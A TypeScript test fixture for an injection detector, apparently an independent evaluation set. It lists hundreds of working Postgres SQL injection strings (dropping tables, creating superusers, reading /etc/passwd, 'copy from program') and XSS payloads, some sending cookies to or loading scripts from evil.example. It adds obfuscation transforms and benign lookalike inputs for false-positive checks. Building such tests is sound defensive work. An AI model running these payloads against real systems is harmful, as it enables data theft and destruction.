import { hashOf } from '../../corpus/load.js';
import { type Place } from '../../../src/security/detection/collect.js';
import { changesAStatement } from './sql.js';

/**
 * A second set from another hand, written without a look at the detector. Of the SQL only what Postgres reads as another
 * statement counts; the scripts are what pages have been attacked with. Both halves were measured before anything was
 * changed for them; `open` was looked at first, `shut` when that was done.
 */
export interface SecondSet {
  what: string;
  isAttack: boolean;
  place: Place;
  values: string[];
}

export type Part = 'open' | 'shut';

const lines = (text: string) =>
  text
    .split('\n')
    .map((line) => line.trim())
    .filter(Boolean);
const words = (text: string) =>
  text
    .split(/\s*\|\s*|\n/)
    .map((word) => word.trim())
    .filter(Boolean);

const SQL = String.raw`
' or 4=4--
' or 'k'='k' --
' OR 1 -- x' or true--
x' or 1 is not null--
x' or null is null--
zz' or 3 between 2 and 5--
zz' or 'abc' ~ 'b'--
zz' or 'abc' similar to 'a%'--
zz' or title ilike '%'--
zz' or title like '%' escape '!'--
zz' or title like 'a!_%' escape '!' --
zz' or not (1>2)--
zz' or (1,2)=(1,2)--
zz' or row(1,2) is not null--
zz' or array[1]=array[1]--
zz' or 1=any(array[1,2])--
zz' or 1=all(select 1)--
zz' or exists (table cvs)--
zz' or true::bool--
zz' or 't'::boolean--
zz' or cast('t' as bool)--
zz' or bool 't'--
zz' or date '2020-01-01' < now()--
zz' or current_user='postgres'--
zz' or session_user is not null--
zz' or length(version())>1--
zz' or position('a' in current_database())>0--
zz' or substring(version() from 1 for 1)='P'--
zz' or overlay('ab' placing 'c' from 1)='cb'--
zz' or extract(epoch from now())>0--
zz' or coalesce(null,1)=1--
zz' or greatest(1,2)=2--
zz' or nullif(1,2)=1--
zz' or 1=1 order by 1--
zz' and 1=2 union select 1--
zz' and false union all select null,null,null--
zz' union distinct select 'a','b'--
zz' union select * from (values (1,2)) v--
zz' union table users--
zz' union (table users limit 1)--
zz' union select string_agg(email,chr(44)) from users--
zz' union select array_to_string(array_agg(tablename),',') from pg_tables--
zz' union select row_to_json(u)::text from users u--
zz' union select pg_read_file('/etc/passwd')--
zz' union select lo_import('/etc/passwd')::text--
zz' union select current_setting('data_directory')--
zz' union select query_to_xml('select 1',true,true,'')::text--
zz' union select usename from pg_user where usesuper--
zz' union select null where 1=1--
zz' union all select column_name from information_schema.columns where table_name=$$users$$--
zz' intersect select password_hash from users--
zz' except all select 'x'--
zz'; select 1--
zz'; select pg_sleep(10)--
zz';select pg_sleep(10);--
zz'; drop table if exists cvs cascade--
zz'; drop schema public cascade--
zz'; alter table users add column x int--
zz'; alter user app with password 'x'--
zz'; create function f() returns int as $$select 1$$ language sql--
zz'; create user eve superuser--
zz'; grant all on users to public--
zz'; do $x$ begin execute 'select 1'; end $x$--
zz'; copy (select * from users) to '/tmp/o'--
zz'; copy x from program 'id'--
zz'; set role postgres--
zz'; reset all--
zz'; vacuum full--
zz'; listen x--
zz'; notify x, 'y'--
zz'; lock table users--
zz'; insert into users(email) values('e@example.org')--
zz'; insert into users select * from users--
zz'; update users set role=$$admin$$--
zz'; delete from audit_log where true--
zz'; truncate users, cvs--
zz'; begin; delete from cvs; commit--
zz'; with d as (delete from cvs returning *) select * from d--
zz'; explain analyze delete from cvs--
zz'; prepare p as select 1; execute p--
zz'; declare c cursor for select 1--
zz'; call f()--
zz'; comment on table users is 'x'--
zz'; security label on table users is 'x'--
zz'; import foreign schema x from server y into z--
'||pg_sleep(3)||'
'||(select string_agg(email,',') from users)||'
'||chr(80)||chr(71)||'
'||current_user||'
'||version()
'||(case when 2>1 then 'a' else 'b' end)||'
'||cast(1/0 as text)||'
'||(1/(select 0))::text||'
'||cast(version() as int)||'
'||(select cast(email as int) from users limit 1)||'
'||to_hex(1)||'
'||encode(convert_to('x','utf8'),'base64')||'
'||(select 1 from generate_series(1,9999999))||'
'||dblink_connect('host=evil.example')||'
'||repeat('a',1000000)||'
'||'x' collate "C"||'
'::int--
'::text||'
' and (select count(*) from generate_series(1,100000000))>0--
' and 1=(select 1 from pg_sleep(2))--
' and 8=(select case when (ascii(substring((select email from users limit 1),1,1))>70) then 8 else 1/0 end)--
' and (select 'a' from users where email like 'a%' limit 1)='a
' and 1=cast((select email from users limit 1) as numeric)--
' and 1::int=('~'||(select version()))::int--
' and (select 1 where pg_sleep(1) is not null)=1--
' and (select pg_sleep(5) from users where role='admin')::text='
' and email in (select email from users) and 'a'='a
' and email > any(select 'a') --
' and xmlexists('/a' passing by ref (select '<a/>'::xml))--
' in ('x') or 'a'='a
' is not null or 'a'='b
' not in ('a') --
' like '%
' ilike '%%' or 'a' like '
' = '
' <> 'x
' < 'zzz
' between 'a' and 'z
') or 1=1--
') or ('x'='x
')) or 1=1--
'))) or ((('x'='x
')) union select 1--
')); drop table x--
') union all (select version())--
',(select version()),now())--
', (select password_hash from users limit 1), now()) --
',now()),(2,(select current_user),now())--
x', role='admin' where email='eve@example.org'--
x', role='admin' --
x', city=(select version()) where id=1--
x' returning *--
x' on conflict do nothing--
x' limit 1 offset 3--
x' fetch first 5 rows only--
x' for update--
x' group by 1 having count(*)>0--
x' order by (select 1)--
x' window w as (partition by 1)--
x' --
x'--
x'/*
x' /* and
x';
x';--
x';;--
x' -- -
x'--
1 or 1=1
1 or 2>1 --
1 or true
1 or not false
1 or 1 is not null
1 or id is not null
1 or id=id
1 or owner<>4
1 or 'a'='a'
1 or $$a$$=$$a$$
1 or exists(select 1)
1 or id in (select id from cvs)
1 or id between 0 and 999999
1 or id>0
1 or title ~ '.'
1 or (1)=(1)
1 and 1=1
1 and 1=2
1 and (select 1)=1
1 and pg_sleep(3) is null
1 and (select count(*) from pg_catalog.pg_class)>0
1 and ascii(substr(current_user,1,1))>64
1 and 1=(case when 1=1 then 1 else 0 end)
1 and exists(select * from users where email like 'a%')
1 and 1=cast(version() as int)
1) or 1=1--
1) or (1=1
1) union select 1--
1)) or ((1=1
1); drop table x--
1 union select 2
1 union all select null
1 union values(1),(2)
1 union select pg_sleep(4)::text
-1 union select email from users
-999 union all select password_hash from users--
0 union (select version())
1 except select 2
1 intersect all select 1
1;select 1
1; select pg_sleep(4)
1;drop table cvs
1;delete from cvs where 1=1
1; update users set role='admin'
1;set role postgres;--
1;do $$begin end$$
1 limit 1
1 offset 1; select 2
1 order by 1;--
(select 1)
(select id from cvs limit 1)
(select max(id) from users)
(select pg_sleep(2))
(select 1 union select 2)
(select count(*) from users where role='admin')
(select case when current_user='app' then 1 else 2 end)
(table cvs limit 1)
case when 1=1 then 1 else 2 end
case 1 when 1 then pg_sleep(1)::text end
nullif(1,2)
pg_sleep(9)
version()
current_database()
pg_backend_pid()
pg_read_file('/etc/passwd')
pg_ls_dir('.')
lo_export(1,'/tmp/x')
random()
array(select email from users)
array_length(array(select 1),1)
1::text::xml
(1)::regclass
'pg_class'::regclass
xpath('/a', query_to_xml('select 1',true,true,''))
title, (select version())
title,(select 1 from pg_sleep(1))
title desc, pg_sleep(1)
title desc nulls last, (select 2)
title desc; select 1
title--
title desc --
title limit 1 --
title/**/;select/**/1
(case when (1=1) then title else owner end)
case when (select true) then title else created_at end desc
title collate "C", (select 1)
id*(select 1)
id+(select count(*) from users)
id, version()
id offset (select 2)
*, (select version())
* from users --
email from users --
count(*) from users union select 1 --
title from cvs union select email from users --
title" from users --
title", (select 1) --
title" desc limit 1 offset (select 1) --
title" || (select version()) || "
title"; drop table x --
title" = "title" or "a" = "a
10 offset 0; select pg_sleep(1)
10 + (select 1)
all
10 offset (select count(*) from users)
(select 10)
null
1,2,3) or (1=1
1) or id in (select 2
1,(select 2)
1) and 1=(select 1
'a') or owner in (1`
  .split('\n')
  .filter(Boolean);

type Disguise = (text: string) => string;
const blanks = (by: string) => (text: string) => text.replaceAll(' ', by);
const SQL_DISGUISES: readonly Disguise[] = [
  (text) => text.toUpperCase(),
  (text) => text.replace(/\b[a-z]/g, (letter) => letter.toUpperCase()),
  blanks('/**/'),
  blanks('/*!50000 */'),
  blanks('/* a /* b */ */'),
  blanks('\t'),
  blanks('\n'),
  blanks('\r\n'),
  blanks('\v'),
  blanks(' -- a\n'),
  (text) => `Anna ${text}`,
  (text) => text.replace(/--$/, '/*'),
  (text) => text.replace(/'(\w+)'/g, "e'$1'"),
  (text) => text.replace(/'(\w+)'/g, '$$$$$1$$$$'),
  (text) => text.replace(/'(\w+)'/g, '$$q$$$1$$q$$'),
  (text) => text.replace(/\b(users|cvs)\b/g, 'public."$1"'),
  (text) => text.replace(/\b1=1\b/g, "'9'::int=9"),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(text).replace(/'/g, '%27').replace(/\(/g, '%28'),
  (text) => text.replace(/ (or|and) /g, ' $1(+1)=1 $1 '),
];

const SCRIPT = String.raw`
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<script type=module>import('//evil.example/x.js')</script>
<script>window['al'+'ert'](1)</script>
<script>top["location"]="//evil.example"</script>
<script>({}).constructor.constructor('alert(1)')()</script>
<script>setTimeout('ale'+'rt(1)')</script>
<script>new Image().src='//evil.example/?'+document.cookie</script>
<script>location=name</script>
<script>throw onerror=alert,1</script>
<script>[1].find(alert)</script>
<script>alert${'`'}1${'`'}</script>
<script/x>alert(1)</script>
<script	>alert(1)</script	>
</script><script>alert(1)</script>
<scr<script>ipt>alert(1)</script>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"></script></svg>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg id=x tabindex=1 onfocusin=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributename=x>
<svg><animatetransform onbegin=alert(1) attributename=transform>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><use onload=alert(1)></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><mi href="javascript:alert(1)">x</mi></math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" alt='Ada'>
<img src onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>
<img src=x onerror=eval(atob("YWxlcnQoMSk="))>
<img src=x onerror=javascript:alert(1)>
<img src=x onerror=window.onerror=alert;throw+1>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=alert(1)>
<img srcset=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1) src=x></picture>
<video src=x onerror=alert(1)>
<video onloadstart=alert(1) src=x></video>
<video oncanplay=alert(1) src=x>
<audio src=x onerror=alert(1)></audio>
<audio controls onplay=alert(1) src=x>
<track onerror=alert(1)>x<script>alert(1)</script>
<body onload=alert(1)>
<body onhashchange=alert(1)>
<body onresize="alert(1)">
<body onmessage=alert(1)>
<body onscroll=alert(1)><br><br><br>
<iframe src=javascript:alert(1)>
<iframe onload=alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe srcdoc="&lt;svg onload&#61;alert(1)&gt;">
<iframe src="data:text/html,<script>alert(1)</script>">
<object data=javascript:alert(1)>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object onerror=alert(1) data=x>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>Portfolio</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="jav&NewLine;ascript&colon;alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" &#1; javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="javascript:%61lert(1)">x</a>
<a href='javascript://%0aalert(1)'>x</a>
<a href="javascript:void(alert(1))">x</a>
<a href=# onclick=alert(1)>x</a>
<a onmouseover=alert(1)>x
<a id=x tabindex=1 onfocus=alert(1)></a>
<area href=javascript:alert(1) shape=default>
<base href="javascript:alert(1)//"><a href=#>x</a>
<form action=javascript:alert(1)><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form onsubmit=alert(1)><button>x</button></form>
<form><input type=image src=x onerror=alert(1)></form>
<input onfocus=alert(1) autofocus>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<input onblur=alert(1) autofocus><input autofocus>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<button onclick="alert(1)">x</button>
<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>
<details ontoggle=alert(1) open>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<marquee onstart=alert(1)>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=x onerror=alert(1)>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)></p>
<p ontransitionend=alert(1) style="transition:all 1s">
<p onpointerenter=alert(1)>Ada Lovelace</p>
<p onwheel=alert(1)>x</p>
<p oncopy=alert(1)>x
<p onpaste="alert(1)" contenteditable>x</p>
<div onclick=alert(1)>x</div>
<div style="x" onmouseenter='alert(1)'>x</div>
<xss onclick=alert(1)>x</xss>
<x contenteditable onblur=alert(1)>x
<table background=x onmouseout=alert(1)><td>x
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><s></s></template><img src=x onerror=alert(1)>
<textarea></textarea><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<!--><script>alert(1)</script>
--><script>alert(1)</script><!--
--!><img src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
"><script>alert(1)</script>
" onfocus=alert(1) autofocus x="
" onmouseover=alert(1) "
' onclick='alert(1)
' autofocus onfocus=alert(1) '
" style=x onanimationend=alert(1) "
x onmouseover=alert(1)
x/onpointerover=alert(1)
</title><img src=x onerror=alert(1)>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><svg onload=alert(1)>
javascript:alert(1)
javascript:alert(document.domain)//
 javascript:alert(1)
java	script:alert(1)
JAVASCRIPT:alert(1)
javascript:fetch('//evil.example/'+document.cookie)
javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
';alert(1)//
'-alert(1)-'
'+alert(1)+'
'*alert(1)*'
',alert(1),'
');alert(1);('
'});alert(1);({'
"-alert(1)-"
";alert(1);"
"+document.location.assign('//evil.example')+"
\';alert(1)//
${'$'}{alert(1)}
${'`'}-alert(1)-${'`'}
</script><svg onload=alert(1)>
'||alert(1)||'
'?alert(1):'
'in alert(1)in'
';import('//evil.example/x.js');'
';throw onerror=alert,1;'
';location='//evil.example';'
';document.body.innerHTML=name;'`
  .split('\n')
  .filter(Boolean);

const SCRIPT_DISGUISES: readonly Disguise[] = [
  (text) => text.replace(/<\/?\w+/g, (tag) => tag.toUpperCase()),
  (text) => text.replace(/ on\w+/g, (name) => name.toUpperCase()),
  (text) => text.replace(/(<\w+) /, '$1\n'),
  (text) => text.replace(/(<\w+) /, '$1/'),
  (text) => text.replace(/(<\w+) /, '$1\f'),
  (text) => text.replaceAll('alert(1)', 'confirm(document.domain)'),
  (text) => text.replaceAll('alert(1)', '(alert)(1)'),
  (text) => text.replaceAll('alert(1)', 'self["alert"](1)'),
  (text) => text.replaceAll('alert(1)', 'top.alert?.(1)'),
  (text) => text.replaceAll('alert(1)', 'eval(name)'),
  (text) => `Senior nurse ${text}`,
  (text) => `<b>Ada</b> ${text}`,
  (text) => encodeURIComponent(text),
];

const GIVEN =
  words(`Agnieszka | Yağmur | Xuân Mai | Þórdís | Sørine | Zoë-Anne | D'Angelo | Na'ima | Ōnishi | Kseniia | Gôkce | Łucja | Ḥasan | Đorđe | Maël
  | Ngozi | Sanjay | 우진 | 雅子 | 小明 | Ольга | Христина | Γιώργος | שרה | فاطمة | ऋषि | সুমিত | தமிழ் | สมชาย | Nguyễn | Mary-Jo | J.P. | María José | Anne-Lise | Jean-François | 'Abd al-Rahman | Se'an | Chi-Wai
  | K. | Zsófia | Ildikó | Mihăiță | Bogdan-Ștefan | Ívar | Aðalheiður | Ruaidhrí | Siân | Angharad | Ffion | Tomáš | Ľubica | Živa | Kārlis | Jānis | Gintarė | Õnne | Ülle | Päivi | Åsa | Øystein | Ævar`);
const FAMILY =
  words(`O'Dwyer | D'Souza | L'Estrange | de l'Étoile | van der Meer | Von und zu Guttenberg | Di'Marco | Mc'Kenzie | ibn Sa'ud | Al-Ma'mari | Hawai'i-Kahale | M'Bala | Tu'ipulotu | Fa'asavalu | Case | Union | Null | True | Like | Between | Table | Grant | Drop | Cast | Set
  | Or | Limit | Alter | Script | Style | Form | Object | Frame | Image | Link | Body | Head | Main | Sleep | Root | Chan-Or | Nor | Xor | Iff | End | Begin | Commit | From | Where | Join | Left | Right | Cross | Inner | Full | Natural | Using
  | Smith (née Jones) | Garcia y Vega | García-López | Ortega y Gasset | Silva e Costa | 王 | 田中 | 김 | Иванова-Петрова | Παπαδόπουλος | כהן | الحسيني | Kovács | Szűcs | Ștefănescu | Dvořák | Müßig | Åström | Çağlar | Işık`);
const FIELDS = lines(`
  Marks & Spencer; Stores
  Yahoo!
  AT&T Inc.
  Toys "R" Us
  Ben & Jerry's
  Levi's (Strauss & Co.)
  McDonald's – Drive-In
  L'Oréal S.A.
  H&M / COS
  <div> Studios
  </salt>
  /dev/null Hosting GmbH
  ;-) Media
  --> Next Agency
  -- Kein Eintrag --
  --
  ---
  n/a
  N/A; see CV
  (none)
  [Redacted]
  {company}
  {{first_name}}
  \${COMPANY_NAME}
  %COMPANY%
  null
  undefined
  NaN
  true
  select
  select one
  Select...
  -- select --
  -- please choose --
  Other (please specify)
  yes or no
  1 or 2
  1 or more
  2 or 3 days a week
  3 or 4
  5 and 6
  10 or so
  1 and a half
  1 or 2 years = enough
  40 or fewer hours/week
  50% or more
  100 or 101
  2 and under
  4 or 5 (depends)
  1 in 10
  24/7 or on call
  1/2 or 1/4
  9 or 10 - not sure
  1; 2; 3
  1;2
  1, 2 and 3
  1=low, 5=high
  5=fluent
  English=C1; German=B2
  English (C2), French (B1) & Latin
  C1/C2
  level >= B2
  > 5 years
  <1 year
  < 3 months
  <3
  >:-)
  a<b
  a < b > c
  x => y
  Map<String, List<Integer>>
  vector<int>
  std::vector<std::string>
  Generic<T extends Node>
  <T>
  <>
  <!-- -->
  <b>Bold claims</b>
  <i>in progress</i>
  <br>
  <br/>Line two
  <p>First paragraph</p>
  <strong>Team lead</strong>
  <a>
  <ul><li>Java</li><li>SQL</li></ul>
  C# | F# | VB.NET
  C++ (STL, Boost)
  C/C++; Rust
  Objective-C++ / Swift
  T-SQL; PL/SQL; PL/pgSQL
  SQL (SELECT, JOIN, GROUP BY)
  SQL: select, insert, update, delete
  MySQL/MariaDB & PostgreSQL
  NoSQL (MongoDB, $lookup)
  JavaScript: React, Node
  JavaScript (ES2023)
  JavaScript:TypeScript
  javascript: 5 years
  TypeScript: 4 years; JavaScript: 8
  Script: bash; Data: pandas
  data: cleaning, modelling
  mailto:ada@example.org
  tel:+441632960961
  ada+jobs@example.org
  o'neil@example.org
  "ada lovelace"@example.org
  https://example.org/~ada?tab=cv&lang=en#top
  https://example.org/cv.pdf?download=true
  http://localhost:3000
  www.example.org/a;b=c
  linkedin.com/in/ada-l'
  github.com/ada/sql-injection-lab
  github.com/ada/xss-cheatsheet
  https://example.org/blog/what-is-sql-injection?utm_source=x
  https://example.org/search?q=select+a+job&sort=-date
  @ada_l
  #opentowork
  +49 (0)30 / 123 45 67
  (555) 010-0199 ext. 4
  020 7946 0018 or 0019
  07:30-16:00
  Mon-Fri; 9-5
  2019-01 - 2021-06
  01/2019–heute
  since 2017
  2017 - present
  Jan '19 - Feb '21
  '98-'02
  Class of '99
  summer '21 and '22
  rock 'n' roll
  Q&A 'n' more
  it's
  that's all, folks
  don't know
  isn't it?
  Côte d'Ivoire
  Hawai'i
  Val-d'Or
  L'Aquila
  Sant'Agata de' Goti
  Land's End
  King's Cross & St Pancras
  St John's, NL
  Xi'an
  Nuku'alofa
  Provence-Alpes-Côte d'Azur
  Bishop's Stortford
  4, rue de l'Abbé-de-l'Épée
  'Villa Rosa', Via dell'Orto 3
  Flat 2; 14 O'Brien's Rd
  Bldg #5 -- rear entrance
  Apt. 3 -- 2nd floor
  Suite 100-- Dock A
  Room 4 /* old wing */
  Block A/* 
  12*3
  €45,000 - €50,000
  £30k or £35k
  $120,000/yr (OTE $150k)
  60.000 € brutto
  30 T€/Jahr
  >= 55k
  55k+ & equity
  1.5x
  3² = 9
  ~ 5
  50:50
  M/F/X
  m/w/d
  she/her
  he/him; they/them
  Mr. & Mrs.
  Dr.-Ing.
  B.Sc. (Hons.) & M.Sc.
  PhD; MBA
  Ph.D (ABD)
  M.D., Ph.D.
  RN, BSN; CCRN
  A*AA
  A*, A, B
  2:1 (Hons)
  GPA 3.9/4.0
  Note 1,3
  18/20
  110 e lode
  cum laude ("with praise")
  TS/SCI
  ISO/IEC 27001:2022
  § 34a GewO
  §§ 5, 6
  Art. 6(1)(f) GDPR
  Führerschein B, BE; C1E
  Permis B
  CAP/BEP
  DALF C1
  HSK 5
  JLPT N1
  日本語能力試験N1（合格）
  英语（CET-6）；日语（N2）
  русский – родной; english – B2
  عربي / إنجليزي
  ελληνικά & αγγλικά
  "Best of Show" '23
  Employee of the Month (x3)
  Top 1% -- globally
  #1 in sales
  1st place @ hackathon
  50+ talks
  ~200 citations
  h-index = 12
  p < 0.05
  p<.001; n=42
  r = -.42
  a=b
  x=1
  1=1
  0=none
  100=max
  key=value
  k1=v1&k2=v2
  a && b || c
  !important
  @media (min-width: 600px)
  $PATH
  %20
  100%
  50%off
  %s
  %d items
  C:\\Users\\ada\\cv.docx
  C:/Temp/cv.pdf
  ~/Documents/cv.pdf
  ./cv.pdf
  ../cv.pdf
  cv (1).pdf
  cv_final;v2.docx
  Ada's CV.pdf
  "CV" – Ada.odt
  Lebenslauf & Zeugnisse.pdf
  cv.tar.gz
  report<2023>.xlsx
  AND
  OR
  NOT
  AND/OR
  OR=Oregon
  Portland, OR
  Portland, OR 97201
  Salem OR -- remote
  Bend, OR or Boise, ID
  IN
  Gary, IN 46402
  Union, NJ
  Union City
  Table View, Cape Town
  Select Portfolio Servicing
  Drop Ltd
  Create & Co
  Insert Coin GmbH
  Delete Agency
  Update AG
  Execute Sp. z o.o.
  Where Food Comes From
  From Scratch Bakery
  Having Fun Ltd.
  Group By Design
  Order By Phone
  Limit Break
  Values & Virtues
  Cast & Crew
  Case & Sons
  When I Work
  Then & Now Antiques
  Else Nutrition
  End. Clothing
  Like a Local
  Between the Lines
  Exists? Yes.
  All Saints
  Any Lab Test Now
  Some Agency
  Null Object Labs
  Is It Bread?
  Not On The High Street
  Distinct Software
  Inner Circle
  Outer Join Bar
  Natural Join Physio
  Cross Apply Ltd.
  Union All Workers
  Except Us
  Intersect Media
  Sleep(ing) Giant
  Sleep Number (R)
  Benchmark(R) Capital
  Version(2) Labs
  User() GmbH
  Count() Consulting
  Concat Studio
  Char(les) & Co.
  Hex(a) Design
  Random() House
  Length Matters
  Chr. Hansen A/S
  Substring Theory (band)
  Lower (Saxony)
  Upper(case) Design
  Now() Agency
  Date: 1 May
  Alert! Security
  alert(us)
  Prompt; Engineers
  Confirm(ed) Ltd
  Eval & Partners
  Script & Seal
  On Click = Off
  online=true
  onboarding = 30 days
  onsite=no
  onclick handlers
  on call=yes
  once=1
  one=1 two=2
  src=LinkedIn
  href
  style=casual
  Source: indeed
  Ref: 12/AB;34
  Ref# A--17
  Kennziffer: 4711/0815
  job-id=9912 or 9913
  Req. 8 and 9
  Grade 7 or 8
  Band 5 or Band 6
  TVöD E9a or E9b
  Year 1 and Year 2
  Level 3 (or equivalent)
  CEFR 'B2'
  'none'
  "none"
  "quoted"
  'single'
  ''
  ""
  ' '
  '-'
  "–"
  \`code\`
  \`\`
  ***
  !!!
  ???
  ...
  ;
  ;;
  ,
  ()
  []
  {}
  \\
  /
  //
  /*
  */
  #
  ##
  @
  &amp;
  &nbsp;
  AT&amp;T
  Smith &amp; Sons
  O&#39;Brien
  &lt;3
  Caf&eacute;
  “smart” ‘quotes’
  O’Connor’s
  naïve—café
  ﬁnance
  ①②③
  😀 dev
  👩‍💻 & 🎨
  ♥ Rust
  C♯
  → next
  ✓ Java ✓ SQL
  • SQL • NoSQL
  ½ day
  10°
  5 µm
  α/β tester
  Ω-3
  ∑
  ≥ 5
  ≠`);
const PARAMETERS = lines(`
  -created_at
  title,-updated_at
  name desc
  created_at:asc
  updated_at,desc
  2024-01-01..2024-12-31
  2024-01-01T00:00:00Z
  2024-02-30
  2024-05-01 or 2024-06-01
  [2020 TO 2024]
  >=2021
  <2020-01-01
  status:open
  status:open or status:closed
  tag:java,tag:sql
  type=cv&state=done
  cv|letter
  en-GB,en;q=0.9,de;q=0.8
  de_AT.UTF-8@euro
  en-US or en-GB
  application/pdf; charset=utf-8
  ada;lang=en
  eyJpZCI6IjAxIiwibiI6MTB9
  MDE4OTAwMDA=
  W/"abc"
  "01HF;3"
  01890000-0000-7000-8000-000000000001,01890000-0000-7000-8000-000000000002
  1,2,3
  1-10
  0..9
  10-
  -1
  +1
  1e3
  0x1F
  1_000
  1.2.3
  v1.2.3-rc.1
  ^1.2 || ^2.0
  >=20.19.0
  *.pdf
  cv*
  ?
  nurs?
  "ward nurse"
  "ward nurse" berlin
  nurse -icu
  nurse +icu -night
  nurse | carer
  nurse & icu
  (nurse | carer) & (icu | a&e)
  nurse and (icu or a&e)
  nurse or midwife
  nurse or midwife and night
  not night
  nurse not night
  nurse near/5 ward
  title:nurse
  title:"head nurse" -agency
  company:'Smith & Sons'
  skills:(c++ or c#)
  c++
  c#
  .net
  asp.net core
  node.js
  f# and ocaml
  r or sas
  r and python
  python or r = analyst
  go or rust or c++
  java and not javascript
  javascript not java
  sql and etl
  sql or nosql
  sql server or oracle
  sql select
  select statement
  sql like
  like sql
  sql between dates
  sql order by
  order by date
  group by example
  having vs where
  where is my cv
  drop table
  truncate table vs delete
  delete from table where
  insert into values
  update set where
  create table as select
  alter table add column
  union select example
  union all vs union
  inner join on
  left outer join
  cross join lateral
  with recursive
  case when then else end
  exists vs in
  not in null
  is null or empty
  is not null
  null or undefined
  count(*)
  count(*) over partition by
  max(date)
  coalesce(a,b)
  cast as int
  now() - interval
  current_date
  pg_sleep
  pg_dump restore
  pg_stat_activity idle
  version()
  random()
  explain analyze
  stored procedure exec
  xp_cmdshell disabled
  information_schema
  postgres copy csv
  waitfor delay
  sqlmap tutorial
  sql injection
  sql injection ' or 1=1
  ' or 1=1 explained
  blind sqli
  union based sqli
  prevent sql injection in node
  parameterized queries
  or 1=1
  1=1
  1=1 meaning
  why 1=1 in where clause
  xss
  reflected xss
  stored xss <script>
  script tag
  <script>
  <script src>
  <script> vs <noscript>
  <img> alt text
  <a> tag
  <div> soup
  <canvas> developer
  html <table> layout
  html <form> action
  <input type="file">
  <b>
  react <Fragment>
  <Suspense fallback>
  Array<string>
  Promise<void>
  List<T>
  Dictionary<string, int>
  a <- b
  -> arrow
  => lambda
  x => x.id
  (a, b) => a - b
  $(document).ready
  $.ajax
  document.cookie
  window.location
  localStorage token
  console.log()
  alert()
  alert box javascript
  alert(1) meaning
  onclick
  onclick handler react
  onload event
  addEventListener('click')
  javascript:void(0) href
  javascript: what is
  javascript const let
  eval() is evil
  settimeout 0
  innerHTML =
  dangerouslySetInnerHTML
  csp unsafe-inline
  iframe sandbox
  data:image/png
  data: url
  base64 decode
  url encode %20
  %27 meaning
  %3Cscript%3E meaning
  path traversal
  ../ meaning
  cd ..
  cd ../..
  ../../
  import from '../../utils'
  require('../config')
  /etc/hosts windows
  /etc/passwd format
  where is /etc/nginx
  /var/log/syslog
  /proc/cpuinfo
  ~/.bashrc
  ~/.ssh/config
  .env file
  .git folder
  .htaccess rewrite
  web.config
  wp-admin
  wp-login.php brute force
  phpmyadmin
  php://input
  file:///
  C:\\Windows\\System32
  boot.ini
  cmd.exe
  powershell -ExecutionPolicy
  bash -c
  sh script.sh
  ls | wc -l
  grep -r "foo" .
  cat file | grep x
  ps aux | grep node
  find . -name "*.ts"
  awk '{print $1}'
  sed -i 's/a/b/g'
  curl | bash
  curl -I https://example.org
  wget -r
  nc -l 8080
  ping 127.0.0.1
  whoami
  id
  sudo rm -rf /
  chmod +x
  kill -9
  tail -f log
  echo $PATH
  $HOME
  \${HOME}
  $(date)
  \`date\`
  && vs ;
  || operator
  ; rm meaning
  > /dev/null 2>&1
  xargs rm
  docker exec -it
  kubectl exec
  ssh user@host
  scp -r
  terraform \${var.x}
  ansible {{ item }}
  helm {{ .Values.x }}
  jinja {{ 7*7 }}
  handlebars {{#if}}
  angular {{ }}
  erb <%= %>
  jsp \${param}
  ognl
  log4j
  log4j \${jndi}
  log4shell
  spring4shell
  jndi lookup
  ldap://
  ldap filter (uid=*)
  (&(objectClass=user)(cn=*))
  xpath //a[@href]
  xpath or 1=1
  xxe <!ENTITY
  <!DOCTYPE html>
  <?xml version="1.0"?>
  <?php echo
  <?= $x ?>
  ssrf 169.254.169.254
  metadata.google.internal
